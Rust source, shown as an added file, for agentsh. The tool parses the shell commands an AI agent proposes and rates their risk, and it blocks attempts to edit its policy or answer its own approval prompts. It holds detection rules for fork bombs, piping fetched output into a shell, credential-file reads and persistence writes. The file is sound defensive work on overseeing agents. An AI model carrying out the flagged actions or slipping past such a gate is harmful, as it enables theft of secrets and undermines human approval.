@@ -1,0 +1,1598 @@
+//! Parsed commands -> a risk, category and reasons for every part. Pure: no I/O.
+//! It unwraps wrappers (`sudo`, `env`, `xargs`, `find -exec` ...), judges nested shell text
+//! (`bash -c`, `eval`, heredocs fed to a shell) and applies the table in `rules`.
+
+use crate::judge::parse::{self, Nesting, RedirectKind, Script, SimpleCommand, Word};
+use crate::judge::rules::{self, Check, Program, When};
+use crate::model::{Category, Risk};
+use serde::Serialize;
+
+/// The judgement of one simple command (or of one write redirect).
+#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
+pub struct Assessment {
+    /// argv as written: literal values, raw text where a word is only known at run time.
+    pub argv: Vec<String>,
+    /// The program that actually runs after unwrapping wrappers, or "" when none.
+    #[serde(skip)]
+    pub program: String,
+    /// The argv that actually runs after unwrapping wrappers; read it through [`Self::inner`],
+    /// since it is left empty when it is `argv` itself (see `share_inner`).
+    #[serde(skip)]
+    pub inner_argv: Vec<String>,
+    /// `inner_argv` is `argv`: nothing was unwrapped.
+    #[serde(skip)]
+    pub inner_is_argv: bool,
+    pub risk: Risk,
+    pub category: Category,
+    pub reasons: Vec<String>,
+    /// Which built-in rule decided: a program name, `redirect`, `unknown`, `parse` ...
+    pub rule: String,
+    /// Where it sits, for explanations: "", "inside $(..)", "inside bash -c" ...
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub context: String,
+}
+
+impl Assessment {
+    fn new(argv: Vec<String>, risk: Risk, category: Category, reason: impl Into<String>, rule: &str) -> Self {
+        Assessment {
+            program: String::new(),
+            inner_argv: Vec::new(),
+            inner_is_argv: false,
+            argv,
+            risk,
+            category,
+            reasons: vec![reason.into()],
+            rule: rule.to_string(),
+            context: String::new(),
+        }
+    }
+
+    /// The argv that actually runs after unwrapping wrappers.
+    pub fn inner(&self) -> &[String] {
+        if self.inner_is_argv { &self.argv } else { &self.inner_argv }
+    }
+
+    /// Drops the copy of `argv` in `inner_argv` when nothing was unwrapped, and `program` when
+    /// it is the basename of `argv[0]` (`levels` reads it so when it is empty): a long script
+    /// has thousands of parts, and the copies were a megabyte of a 64 KiB script's peak memory.
+    fn share_inner(&mut self) {
+        if !self.inner_argv.is_empty() && self.inner_argv == self.argv {
+            self.inner_argv = Vec::new();
+            self.inner_is_argv = true;
+        }
+        if self.argv.first().is_some_and(|w| basename(w) == self.program) {
+            self.program = String::new();
+        }
+    }
+
+    /// The argv shell-quoted, as a person would type it.
+    pub fn text(&self) -> String {
+        quote_argv(&self.argv)
+    }
+}
+
+pub fn quote_argv(argv: &[String]) -> String {
+    argv.iter()
+        .map(|a| {
+            if a.starts_with(['>', '<']) && a.len() <= 3 {
+                a.clone()
+            } else {
+                shlex::try_quote(a).map(|q| q.into_owned()).unwrap_or_else(|_| a.clone())
+            }
+        })
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/// Judges every simple command in a parsed script.
+pub fn assess(script: &Script) -> Vec<Assessment> {
+    let mut out = Vec::new();
+    assess_into(script, &Floor::default(), &mut out);
+    out
+}
+
+/// Judges text that could not be parsed: it never runs without a person.
+pub fn unparseable(text: &str, err: &parse::ParseError) -> Assessment {
+    let risk = match err {
+        parse::ParseError::Syntax(_) => Risk::High,
+        _ => Risk::Forbidden,
+    };
+    Assessment::new(vec![text.to_string()], risk, Category::Unknown, format!("agentsh cannot judge it: {err}"), "parse")
+}
+
+/// A minimum risk and reasons inherited from an enclosing wrapper (`sudo bash -c '...'`).
+#[derive(Clone, Default)]
+struct Floor {
+    risk: Option<Risk>,
+    reasons: Vec<String>,
+    context: String,
+}
+
+/// [`assess`], handing each part to `each` as it is judged, and freeing each command's words
+/// once they are: a long script's words and its parts are never all held at once (issue 9).
+pub fn assess_each(mut script: Script, mut each: impl FnMut(Assessment)) {
+    let commands = std::mem::take(&mut script.commands);
+    let floor = Floor::default();
+    let mut out = Vec::new();
+    assess_hidden(&script, &floor, &mut out);
+    out.drain(..).for_each(&mut each);
+    for cmd in commands {
+        assess_command(&cmd, &floor, &mut out);
+        out.drain(..).for_each(&mut each);
+    }
+}
+
+fn assess_into(script: &Script, floor: &Floor, out: &mut Vec<Assessment>) {
+    assess_hidden(script, floor, out);
+    for cmd in &script.commands {
+        assess_command(cmd, floor, out);
+    }
+}
+
+/// The parts no simple command shows: opaque constructs and fork bombs, judged first.
+fn assess_hidden(script: &Script, floor: &Floor, out: &mut Vec<Assessment>) {
+    for reason in &script.opaque {
+        let mut a = Assessment::new(
+            vec![reason.clone()],
+            Risk::High,
+            Category::Unknown,
+            format!("{reason} runs a command agentsh cannot see before it runs"),
+            "opaque",
+        );
+        apply_floor(&mut a, floor);
+        out.push(a);
+    }
+    if script.fork_bomb {
+        let mut a = Assessment::new(
+            vec![script.functions.join(" ")],
+            Risk::Forbidden,
+            Category::Blocked,
+            "a fork bomb: a function that calls itself through a pipe or in the background until the machine runs out of processes",
+            "fork-bomb",
+        );
+        apply_floor(&mut a, floor);
+        out.push(a);
+    }
+}
+
+fn apply_floor(a: &mut Assessment, floor: &Floor) {
+    if let Some(r) = floor.risk
+        && r > a.risk
+    {
+        a.risk = r;
+    }
+    for r in &floor.reasons {
+        if !a.reasons.contains(r) {
+            a.reasons.push(r.clone());
+        }
+    }
+    if a.context.is_empty() {
+        a.context = floor.context.clone();
+    }
+}
+
+fn nesting_context(n: Nesting) -> &'static str {
+    match n {
+        Nesting::Top => "",
+        Nesting::Substitution => "inside $(..)",
+        Nesting::ProcessSubstitution => "inside <(..)",
+        Nesting::FunctionBody => "inside a function",
+    }
+}
+
+fn assess_command(cmd: &SimpleCommand, floor: &Floor, out: &mut Vec<Assessment>) {
+    let mut floor = floor.clone();
+    if floor.context.is_empty() {
+        floor.context = nesting_context(cmd.nesting).to_string();
+    }
+    for r in &cmd.redirects {
+        if let Some(mut a) = assess_redirect(r) {
+            apply_floor(&mut a, &floor);
+            out.push(a);
+        }
+    }
+    let argv: Vec<String> = cmd.argv();
+    if cmd.words.is_empty() {
+        for (name, value) in &cmd.assignments {
+            if let Some(v) = value.lit.as_deref().filter(|v| mentions_secret(&normalize_path(v))) {
+                let mut a = Assessment::new(
+                    vec![format!("{name}={v}")],
+                    Risk::Moderate,
+                    Category::FileRead,
+                    format!("names {v}, which holds secrets, for the commands after it"),
+                    "secret",
+                );
+                apply_floor(&mut a, &floor);
+                out.push(a);
+            }
+            if rules::DANGEROUS_ENV.contains(&name.as_str()) {
+                let mut a = Assessment::new(
+                    vec![format!("{name}=..")],
+                    Risk::Moderate,
+                    Category::Shell,
+                    format!("sets {name} for the commands after it, which changes what they run"),
+                    "env",
+                );
+                apply_floor(&mut a, &floor);
+                out.push(a);
+            }
+        }
+        return;
+    }
+    for (name, _) in &cmd.assignments {
+        if rules::DANGEROUS_ENV.contains(&name.as_str()) {
+            floor.risk = floor.risk.max(Some(Risk::High));
+            floor.reasons.push(format!("sets {name}, which can make the command run other code"));
+        }
+    }
+    let input = Input {
+        piped_stdin: cmd.piped_stdin,
+        here_body: cmd
+            .redirects
+            .iter()
+            .find(|r| matches!(r.kind, RedirectKind::HereDoc | RedirectKind::HereString))
+            .map(|r| r.target.clone()),
+        depth: cmd.depth,
+    };
+    let mut a = judge_words(&cmd.words, &input, &mut floor, out);
+    a.argv = argv;
+    a.share_inner();
+    apply_floor(&mut a, &floor);
+    out.push(a);
+}
+
+/// What feeds a command's standard input, for shells and interpreters.
+struct Input {
+    piped_stdin: bool,
+    here_body: Option<Word>,
+    depth: usize,
+}
+
+fn assess_redirect(r: &parse::Redirect) -> Option<Assessment> {
+    if r.kind == RedirectKind::Read {
+        let target = r.target.lit.as_deref()?;
+        return mentions_secret(&normalize_path(target)).then(|| {
+            Assessment::new(
+                vec!["<".to_string(), target.to_string()],
+                Risk::Moderate,
+                Category::FileRead,
+                format!("reads {target}, which holds secrets"),
+                "redirect",
+            )
+        });
+    }
+    if !r.writes() {
+        return None;
+    }
+    let op = match r.kind {
+        RedirectKind::Append => ">>",
+        RedirectKind::ReadWrite => "<>",
+        _ => ">",
+    };
+    let argv = vec![op.to_string(), r.target.text().to_string()];
+    let Some(target) = r.target.lit.as_deref() else {
+        return Some(Assessment::new(
+            argv,
+            Risk::Moderate,
+            Category::FileWrite,
+            "writes to a file whose name is only known when it runs",
+            "redirect",
+        ));
+    };
+    let path = normalize_path(target);
+    if matches!(path.as_str(), "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty") || path.starts_with("/dev/fd/")
+    {
+        return None;
+    }
+    let (risk, why) = if is_block_device(&path) {
+        (Risk::Forbidden, format!("writes over the disk device {target}"))
+    } else if mentions_self(target) {
+        (
+            Risk::Forbidden,
+            format!("changes agentsh's own configuration or record ({target}); only a person may, outside the agent"),
+        )
+    } else if under_any(&path, rules::PERSISTENCE_PATHS) {
+        (Risk::High, format!("writes to {target}, which runs code at login or grants access"))
+    } else if under_system_dir(&path) {
+        (Risk::High, format!("writes to the system file {target}"))
+    } else {
+        (Risk::Moderate, format!("writes to the file {target}"))
+    };
+    Some(Assessment::new(argv, risk, Category::FileWrite, why, "redirect"))
+}
+
+/// Unwraps wrappers and judges the command that actually runs.
+fn judge_words(words: &[Word], input: &Input, floor: &mut Floor, out: &mut Vec<Assessment>) -> Assessment {
+    let mut words: Vec<Word> = words.to_vec();
+    let mut idx = 0;
+    loop {
+        let Some(first) = words.get(idx) else {
+            return Assessment::new(Vec::new(), Risk::Safe, Category::Shell, "runs nothing", "empty");
+        };
+        let Some(name_text) = first.lit.clone() else {
+            return Assessment::new(
+                Vec::new(),
+                Risk::High,
+                Category::Unknown,
+                format!("the command name `{}` is only known when it runs, so agentsh cannot judge it", first.raw),
+                "dynamic",
+            );
+        };
+        let name = basename(&name_text);
+        let rest = &words[idx + 1..];
+        let Some(wrapper) = rules::find_wrapper(name).or_else(|| (name == "busybox").then(busybox_wrapper)) else {
+            break;
+        };
+        match unwrap(wrapper, name, rest) {
+            Unwrapped::Inner { skip, replace } => {
+                if wrapper.risk > Risk::Safe {
+                    floor.risk = floor.risk.max(Some(wrapper.risk));
+                    floor.reasons.push(wrapper.why.to_string());
+                }
+                if name == "xargs" {
+                    floor.reasons.push("xargs adds arguments from its input, which agentsh cannot see".to_string());
+                }
+                if let Some(new_words) = replace {
+                    // `env -S 'a b'` splits a string into argv.
+                    let mut v = new_words;
+                    v.extend(rest[skip..].iter().cloned());
+                    words = v;
+                    idx = 0;
+                } else {
+                    idx += 1 + skip;
+                }
+                if words.get(idx).is_none() && name == "xargs" {
+                    // `xargs` alone runs `echo`.
+                    return Assessment::new(Vec::new(), Risk::Safe, Category::FileRead, "prints its input", "xargs");
+                }
+            }
+            Unwrapped::Shell(text) => {
+                let mut f = floor.clone();
+                if wrapper.risk > Risk::Safe {
+                    f.risk = f.risk.max(Some(wrapper.risk));
+                    f.reasons.push(wrapper.why.to_string());
+                }
+                f.context = format!("run by {name}");
+                return nested_text(&text, input.depth + 1, &f, out, name);
+            }
+            Unwrapped::Itself => break,
+            Unwrapped::LookupOnly => {
+                return Assessment::new(Vec::new(), Risk::Safe, Category::FileRead, "only looks a command up", name);
+            }
+        }
+    }
+    let name_text = words[idx].lit.clone().unwrap_or_default();
+    let name = basename(&name_text).to_string();
+    let args = &words[idx + 1..];
+    let mut a = judge_program(&name_text, &name, args, input, floor, out);
+    a.program = name;
+    a.inner_argv = words[idx..].iter().map(|w| w.text().to_string()).collect();
+    a
+}
+
+fn busybox_wrapper() -> &'static rules::Wrapper {
+    static BUSYBOX: rules::Wrapper = rules::Wrapper {
+        names: &["busybox"],
+        value_opts: &[],
+        skip_positionals: 0,
+        risk: Risk::Safe,
+        why: "runs a busybox applet",
+        joins_into_shell: false,
+    };
+    &BUSYBOX
+}
+
+enum Unwrapped {
+    /// The wrapped command starts `skip` words after the wrapper (or is `replace`).
+    Inner { skip: usize, replace: Option<Vec<Word>> },
+    /// The wrapper runs its arguments as shell text.
+    Shell(String),
+    /// No command follows: judge the wrapper as a program itself.
+    Itself,
+    /// `command -v x`: only a lookup.
+    LookupOnly,
+}
+
+fn unwrap(w: &rules::Wrapper, name: &str, rest: &[Word]) -> Unwrapped {
+    let mut i = 0;
+    let mut positionals_to_skip = w.skip_positionals;
+    while i < rest.len() {
+        let t = rest[i].text();
+        if t == "--" {
+            i += 1;
+            break;
+        }
+        if name == "env" && !t.starts_with('-') && t.contains('=') {
+            i += 1;
+            continue;
+        }
+        if (name == "env")
+            && (t == "-S" || t == "--split-string" || t.starts_with("-S") || t.starts_with("--split-string="))
+        {
+            let value = if t == "-S" || t == "--split-string" {
+                rest.get(i + 1).and_then(|w| w.lit.clone())
+            } else {
+                t.split_once('=').map(|(_, v)| v.to_string()).or_else(|| t.strip_prefix("-S").map(str::to_string))
+            };
+            let consumed = if t == "-S" || t == "--split-string" { 2 } else { 1 };
+            let Some(value) = value else {
+                return Unwrapped::Shell(rest[i..].iter().map(|w| w.raw.clone()).collect::<Vec<_>>().join(" "));
+            };
+            let split: Vec<Word> = shlex::split(&value)
+                .unwrap_or_else(|| value.split_whitespace().map(str::to_string).collect())
+                .iter()
+                .map(|s| Word::literal(s))
+                .collect();
+            return Unwrapped::Inner { skip: i + consumed, replace: Some(split) };
+        }
+        if (name == "command") && (t == "-v" || t == "-V") {
+            return Unwrapped::LookupOnly;
+        }
+        if t.starts_with('-') && t.len() > 1 && positionals_to_skip == w.skip_positionals {
+            let takes_value = w.value_opts.contains(&t);
+            i += if takes_value { 2 } else { 1 };
+            continue;
+        }
+        if positionals_to_skip > 0 {
+            positionals_to_skip -= 1;
+            i += 1;
+            continue;
+        }
+        break;
+    }
+    if i >= rest.len() {
+        return Unwrapped::Itself;
+    }
+    if w.joins_into_shell {
+        let text = rest[i..].iter().map(|w| w.text().to_string()).collect::<Vec<_>>().join(" ");
+        return Unwrapped::Shell(text);
+    }
+    Unwrapped::Inner { skip: i, replace: None }
+}
+
+/// Parses and judges shell text found inside a command (`bash -c`, `eval`, heredocs).
+fn nested_text(text: &str, depth: usize, floor: &Floor, out: &mut Vec<Assessment>, via: &str) -> Assessment {
+    match parse::parse_nested(text, depth) {
+        Ok(script) => {
+            let mut f = floor.clone();
+            if f.context.is_empty() {
+                f.context = format!("inside {via}");
+            }
+            assess_into(&script, &f, out);
+            // The wrapper itself adds nothing beyond what it runs.
+            Assessment::new(
+                Vec::new(),
+                Risk::Safe,
+                Category::Shell,
+                format!("runs the shell text it is given ({via})"),
+                "shell",
+            )
+        }
+        Err(e) => Assessment::new(
+            Vec::new(),
+            if matches!(e, parse::ParseError::Syntax(_)) { Risk::High } else { Risk::Forbidden },
+            Category::Unknown,
+            format!("the text given to {via} cannot be judged: {e}"),
+            "parse",
+        ),
+    }
+}
+
+fn judge_program(
+    name_text: &str,
+    name: &str,
+    args: &[Word],
+    input: &Input,
+    floor: &mut Floor,
+    out: &mut Vec<Assessment>,
+) -> Assessment {
+    let mut a = if rules::SHELLS.contains(&name) {
+        judge_shell(name, args, input, floor, out)
+    } else if name == "eval" {
+        if args.first().is_some_and(|w| w.text() == "eval") {
+            Assessment::new(Vec::new(), Risk::High, Category::Shell, "eval of eval only hides what runs", "eval")
+        } else if args.iter().all(|w| w.lit.is_some()) {
+            let text = args.iter().map(|w| w.text()).collect::<Vec<_>>().join(" ");
+            nested_text(&text, input.depth + 1, floor, out, "eval")
+        } else {
+            Assessment::new(
+                Vec::new(),
+                Risk::High,
+                Category::Shell,
+                "eval of text only known when it runs: agentsh cannot judge it",
+                "eval",
+            )
+        }
+    } else if name == "source" || name == "." {
+        let file = args.first().map(|w| w.text()).unwrap_or("");
+        Assessment::new(
+            Vec::new(),
+            Risk::High,
+            Category::Shell,
+            format!("runs the commands in {file} inside the shell; agentsh does not judge the file's contents"),
+            "source",
+        )
+    } else if name == "agentsh" {
+        judge_self(args, input, floor, out)
+    } else if name == "find" {
+        judge_find(args, input, floor, out)
+    } else if let Some(program) = rules::find_program(name) {
+        judge_table(program, name, args, input)
+    } else if name_text.contains('/') {
+        Assessment::new(
+            Vec::new(),
+            Risk::Moderate,
+            Category::Unknown,
+            format!("runs the program or script {name_text}; agentsh does not know what it does"),
+            "unknown",
+        )
+    } else {
+        Assessment::new(
+            Vec::new(),
+            Risk::Moderate,
+            Category::Unknown,
+            format!("`{name}` is not a program agentsh knows, so it could do anything"),
+            "unknown",
+        )
+    };
+    // `./ls` or `/tmp/x/ls` is whatever file sits there, not the system's `ls`: judge it by its
+    // name, but never as safe. Standard system directories hold the real programs.
+    if name_text.contains('/') && a.risk == Risk::Safe && !in_system_bin(name_text) {
+        a.risk = Risk::Moderate;
+        a.reasons = vec![format!("runs {name_text}, a file outside the system directories, not the system's `{name}`")];
+    }
+    protect_paths(&mut a, name, args);
+    a
+}
+
+fn in_system_bin(path: &str) -> bool {
+    const BINS: &[&str] = &[
+        "/bin/",
+        "/usr/bin/",
+        "/usr/local/bin/",
+        "/sbin/",
+        "/usr/sbin/",
+        "/usr/local/sbin/",
+        "/opt/homebrew/bin/",
+        "/run/current-system/sw/bin/",
+    ];
+    BINS.iter().any(|b| path.strip_prefix(b).is_some_and(|rest| !rest.contains('/') && !rest.is_empty()))
+}
+
+/// `sh -c 'text'`, `bash script.sh`, `curl .. | sh`, `bash <<EOF`.
+fn judge_shell(name: &str, args: &[Word], input: &Input, floor: &mut Floor, out: &mut Vec<Assessment>) -> Assessment {
+    let mut c_mode = false;
+    let mut stdin_mode = false;
+    let mut i = 0;
+    while i < args.len() {
+        let t = args[i].text();
+        if t == "--" {
+            i += 1;
+            break;
+        }
+        if (t == "-o" || t == "+o") && i + 1 < args.len() {
+            i += 2;
+            continue;
+        }
+        if let Some(opts) = t.strip_prefix('-').filter(|o| !o.is_empty() && !o.starts_with('-')) {
+            c_mode |= opts.contains('c');
+            stdin_mode |= opts.contains('s');
+            i += 1;
+            continue;
+        }
+        if t.starts_with("--") || (t.starts_with('+') && t.len() > 1) {
+            i += 1;
+            continue;
+        }
+        break;
+    }
+    if name == "busybox" {
+        return Assessment::new(Vec::new(), Risk::Moderate, Category::Unknown, "runs a busybox applet", "busybox");
+    }
+    if c_mode {
+        return match args.get(i) {
+            Some(w) if w.lit.is_some() => nested_text(w.text(), input.depth + 1, floor, out, &format!("{name} -c")),
+            Some(w) => Assessment::new(
+                Vec::new(),
+                Risk::High,
+                Category::Shell,
+                format!("{name} -c runs text that is only known when it runs ({}): agentsh cannot judge it", w.raw),
+                "shell",
+            ),
+            None => {
+                Assessment::new(Vec::new(), Risk::High, Category::Shell, format!("{name} -c with no command"), "shell")
+            }
+        };
+    }
+    if let (Some(script), false) = (args.get(i), stdin_mode) {
+        return Assessment::new(
+            Vec::new(),
+            Risk::Moderate,
+            Category::Shell,
+            format!("runs the shell script {}; agentsh does not judge the file's contents", script.text()),
+            "shell",
+        );
+    }
+    if let Some(body) = &input.here_body {
+        return match &body.lit {
+            Some(text) => nested_text(text, input.depth + 1, floor, out, &format!("a here-document fed to {name}")),
+            None => Assessment::new(
+                Vec::new(),
+                Risk::High,
+                Category::Shell,
+                format!("feeds {name} a here-document whose text is only known when it runs"),
+                "shell",
+            ),
+        };
+    }
+    if input.piped_stdin {
+        return Assessment::new(
+            Vec::new(),
+            Risk::High,
+            Category::Shell,
+            format!("pipes another command's output into {name} as a script (remote or encoded code cannot be judged)"),
+            "shell",
+        );
+    }
+    Assessment::new(Vec::new(), Risk::Moderate, Category::Shell, format!("starts an interactive {name}"), "shell")
+}
+
+/// agentsh run through the gate: read-only subcommands are fine; anything that changes its
+/// policy or answers its prompts is the person's alone.
+fn judge_self(args: &[Word], input: &Input, floor: &mut Floor, out: &mut Vec<Assessment>) -> Assessment {
+    let first = args.first().map(|w| w.text()).unwrap_or("");
+    let second = args.get(1).map(|w| w.text()).unwrap_or("");
+    if first == crate::model::NEW_SESSION_MARKER {
+        // agentsh's internal "exec this in a new session": it runs its arguments unjudged.
+        return Assessment::new(
+            Vec::new(),
+            Risk::Forbidden,
+            Category::Blocked,
+            "agentsh's internal exec runs a command without judging it; only agentsh itself uses it",
+            "agentsh",
+        );
+    }
+    if first.starts_with('-') && !matches!(first, "--help" | "-h" | "--version" | "-V") {
+        // agentsh used as a shell: judge like one.
+        return judge_shell("agentsh", args, input, floor, out);
+    }
+    let read_only = rules::SELF_READ_ONLY.contains(&first)
+        || (first == "whitelist" && rules::SELF_WHITELIST_READ_ONLY.contains(&second))
+        // Only the JSON listing: the live UI answers requests, which is the person's alone.
+        || (first == "approvals"
+            && args.iter().any(|w| w.text() == "--json")
+            && args[1..].iter().all(|w| w.text() == "--json"));
+    if read_only || first.is_empty() {
+        Assessment::new(Vec::new(), Risk::Safe, Category::FileRead, "only shows agentsh's state", "agentsh")
+    } else {
+        Assessment::new(
+            Vec::new(),
+            Risk::Forbidden,
+            Category::Blocked,
+            format!(
+                "`agentsh {first}` changes agentsh's own policy or answers its prompts; only a person may run it, outside the agent"
+            ),
+            "agentsh",
+        )
+    }
+}
+
+/// `find`: its own checks, plus every command it runs through `-exec`, `-execdir`, `-ok`.
+fn judge_find(args: &[Word], input: &Input, floor: &mut Floor, out: &mut Vec<Assessment>) -> Assessment {
+    let mut i = 0;
+    while i < args.len() {
+        let t = args[i].text();
+        if matches!(t, "-exec" | "-execdir" | "-ok" | "-okdir") {
+            let start = i + 1;
+            let mut end = start;
+            while end < args.len() && !matches!(args[end].text(), ";" | "+") {
+                end += 1;
+            }
+            let inner = &args[start..end.min(args.len())];
+            if !inner.is_empty() {
+                let mut f = floor.clone();
+                f.context = format!("run by find {t}");
+                f.reasons.push("find runs it once for every file it matches".to_string());
+                let mut a =
+                    judge_words(inner, &Input { piped_stdin: false, here_body: None, depth: input.depth }, &mut f, out);
+                a.argv = inner.iter().map(|w| w.text().to_string()).collect();
+                a.share_inner();
+                apply_floor(&mut a, &f);
+                out.push(a);
+            }
+            i = end + 1;
+            continue;
+        }
+        i += 1;
+    }
+    let program = rules::find_program("find").expect("find is in the table");
+    judge_table(program, "find", args, input)
+}
+
+/// Arguments as the table's conditions see them.
+pub struct Args<'a> {
+    pub program: &'a str,
+    /// Every argument's text.
+    pub all: Vec<&'a str>,
+    /// Arguments starting with `-` (before `--`).
+    pub flags: Vec<&'a str>,
+    /// The rest, with the values of `value_opts` before the subcommand skipped.
+    pub positionals: Vec<&'a str>,
+    pub piped_stdin: bool,
+    pub here_input: bool,
+}
+
+impl<'a> Args<'a> {
+    pub fn new(program: &'a str, words: &'a [Word], value_opts: &[&str], piped_stdin: bool, here_input: bool) -> Self {
+        let mut flags = Vec::new();
+        let mut positionals = Vec::new();
+        let mut after_dashes = false;
+        let mut i = 0;
+        while i < words.len() {
+            let t = words[i].text();
+            if after_dashes {
+                positionals.push(t);
+            } else if t == "--" {
+                after_dashes = true;
+            } else if t.starts_with('-') && t.len() > 1 {
+                flags.push(t);
+                if positionals.is_empty() && value_opts.contains(&t) {
+                    i += 1;
+                    if let Some(v) = words.get(i) {
+                        // `git -c key=val`: keep the value visible to checks as a flag value.
+                        flags.push(v.text());
+                    }
+                }
+            } else {
+                positionals.push(t);
+            }
+            i += 1;
+        }
+        Args { program, all: words.iter().map(|w| w.text()).collect(), flags, positionals, piped_stdin, here_input }
+    }
+
+    pub fn sub(&self) -> Option<&'a str> {
+        self.positionals.first().copied()
+    }
+
+    /// `-r` matches `-r`, `-rf`, `-fr`; `--force` matches `--force` and `--force=1`;
+    /// `-delete` (several letters after one dash) matches itself.
+    pub fn has_flag(&self, spec: &str) -> bool {
+        self.flags.iter().any(|f| flag_matches(f, spec))
+    }
+
+    pub fn has_any_flag(&self, specs: &[&str]) -> bool {
+        specs.iter().any(|s| self.has_flag(s))
+    }
+}
+
+fn flag_matches(arg: &str, spec: &str) -> bool {
+    if arg == spec {
+        return true;
+    }
+    if spec.starts_with("--") || spec.len() > 2 {
+        return arg.strip_prefix(spec).is_some_and(|rest| rest.starts_with('='));
+    }
+    // A single-letter short option inside a cluster such as `-rf`.
+    let Some(letter) = spec.strip_prefix('-').and_then(|l| l.chars().next()) else {
+        return false;
+    };
+    let Some(cluster) = arg.strip_prefix('-') else {
+        return false;
+    };
+    if cluster.starts_with('-') || cluster.is_empty() {
+        return false;
+    }
+    cluster.chars().all(|c| c.is_ascii_alphanumeric()) && cluster.contains(letter)
+}
+
+fn when_matches(when: &When, args: &Args) -> bool {
+    match when {
+        When::Any => true,
+        When::NoArgs => args.all.is_empty(),
+        When::Sub(subs) => args.sub().is_some_and(|s| subs.contains(&s)),
+        When::Flag(flags) => args.has_any_flag(flags),
+        When::SubFlag(subs, flags) => args.sub().is_some_and(|s| subs.contains(&s)) && args.has_any_flag(flags),
+        When::SubArg(subs, wanted) => {
+            args.sub().is_some_and(|s| subs.contains(&s))
+                && args.all.iter().skip_while(|a| Some(**a) != args.sub()).skip(1).any(|a| wanted.contains(a))
+        }
+        When::Arg(wanted) => args.positionals.iter().any(|a| wanted.contains(a)),
+        When::ArgPrefix(prefixes) => args.all.iter().any(|a| prefixes.iter().any(|p| a.starts_with(p))),
+        When::Custom(f) => f(args),
+    }
+}
+
+fn judge_table(program: &Program, name: &str, words: &[Word], input: &Input) -> Assessment {
+    let args = Args::new(name, words, program.value_opts, input.piped_stdin, input.here_body.is_some());
+    let matched: Vec<&Check> = program.checks.iter().filter(|c| when_matches(&c.when, &args)).collect();
+    let (risk, category, reasons) = if matched.is_empty() {
+        (program.risk, program.category, vec![program.why.to_string()])
+    } else {
+        let top = matched.iter().map(|c| c.risk).max().expect("non-empty");
+        let winners: Vec<&&Check> = matched.iter().filter(|c| c.risk == top).collect();
+        let category = winners.iter().find_map(|c| c.category).unwrap_or(program.category);
+        (top, category, winners.iter().map(|c| c.why.to_string()).collect())
+    };
+    let mut a = Assessment::new(Vec::new(), risk, category, String::new(), name);
+    a.reasons = reasons;
+    a
+}
+
+/// Raises the risk of anything that touches agentsh's own files, start-up files or secrets.
+fn protect_paths(a: &mut Assessment, name: &str, args: &[Word]) {
+    let reads_only = a.risk == Risk::Safe && a.category == Category::FileRead;
+    let safe = a.risk == Risk::Safe;
+    for w in args {
+        let text = w.text();
+        if mentions_self(text) && (!reads_only || mentions_queue(text)) && name != "agentsh" {
+            a.risk = Risk::Forbidden;
+            a.category = Category::Blocked;
+            a.reasons = vec![format!(
+                "touches agentsh's own configuration or record ({text}); only a person may change it, outside the agent"
+            )];
+            return;
+        }
+    }
+    let writes = matches!(a.category, Category::FileWrite | Category::FileDelete | Category::System);
+    for w in args {
+        let Some(text) = w.lit.as_deref() else {
+            continue;
+        };
+        if text.starts_with('-') {
+            continue;
+        }
+        let path = normalize_path(text);
+        if writes && under_any(&path, rules::PERSISTENCE_PATHS) && a.risk < Risk::High {
+            a.risk = Risk::High;
+            a.reasons.push(format!("changes {text}, which runs code at login or grants access"));
+        }
+        if safe && mentions_secret(&path) {
+            a.risk = Risk::Moderate;
+            a.reasons = vec![format!("reads or searches for {text}, which holds secrets")];
+        }
+    }
+}
+
+/// True when a path or name points at credentials: SSH keys, cloud tokens, password files.
+pub fn mentions_secret(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    let home_relative = lower.strip_prefix('~').map(|rest| match rest.find('/') {
+        // `~alice/.ssh` is someone's home too.
+        Some(i) => format!("~{}", &rest[i..]),
+        None => "~".to_string(),
+    });
+    let p = home_relative.as_deref().unwrap_or(&lower);
+    rules::SECRET_PATHS.iter().any(|s| p.starts_with(s) || (s.ends_with('/') && p == s.trim_end_matches('/')))
+        || rules::SECRET_NAMES.iter().any(|n| lower.contains(n))
+        || lower.ends_with(".key")
+}
+
+/// True when `text` names agentsh's own config, whitelist, trust or log files.
+pub fn mentions_self(text: &str) -> bool {
+    let t = text.trim_end_matches('/');
+    (t.contains(".agents")
+        && (t.contains("terminal.json") || t.ends_with(".agents") || t.contains(".agents/*") || t.contains(".agents/")))
+        || t.contains(".config/agentsh")
+        || t.contains(".local/state/agentsh")
+        || t.contains(".local/share/agentsh")
+        || mentions_queue(t)
+}
+
+/// True when `text` names the approval queue's directory (`$XDG_RUNTIME_DIR/agentsh`,
+/// `/run/user/UID/agentsh`, `/tmp/agentsh-UID`): writing an answer file there approves a
+/// command, and reading a request shows its approval code. Even reads are refused.
+pub fn mentions_queue(text: &str) -> bool {
+    let t = text.trim_end_matches('/');
+    ((t.contains("/run/user/") || t.contains("XDG_RUNTIME_DIR")) && t.contains("agentsh"))
+        || t.contains("/tmp/agentsh-")
+}
+
+pub fn basename(path: &str) -> &str {
+    path.rsplit('/').next().filter(|s| !s.is_empty()).unwrap_or(path)
+}
+
+/// Lexically normalizes a path: `//` -> `/`, `/./` and `..` resolved, trailing `/`, `/*` and
+/// `/.*` dropped (they name everything inside), `~/` -> `~`.
+pub fn normalize_path(p: &str) -> String {
+    let mut s = p.trim().to_string();
+    loop {
+        let before = s.len();
+        for suffix in ["/*", "/.*", "/.", "/"] {
+            if s.len() > 1 && s.ends_with(suffix) {
+                s.truncate(s.len() - suffix.len());
+                if s.is_empty() {
+                    s.push('/');
+                }
+            }
+        }
+        if s.len() == before {
+            break;
+        }
+    }
+    if s == "*" || s == "/*" {
+        return "/".to_string();
+    }
+    let absolute = s.starts_with('/');
+    let mut parts: Vec<&str> = Vec::new();
+    for part in s.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                if absolute || parts.last().is_some_and(|p| *p != ".." && *p != "~") {
+                    parts.pop();
+                } else {
+                    parts.push("..");
+                }
+            }
+            other => parts.push(other),
+        }
+    }
+    let joined = parts.join("/");
+    if absolute {
+        format!("/{joined}")
+    } else if joined.is_empty() {
+        ".".to_string()
+    } else {
+        joined
+    }
+}
+
+fn under_any(path: &str, roots: &[&str]) -> bool {
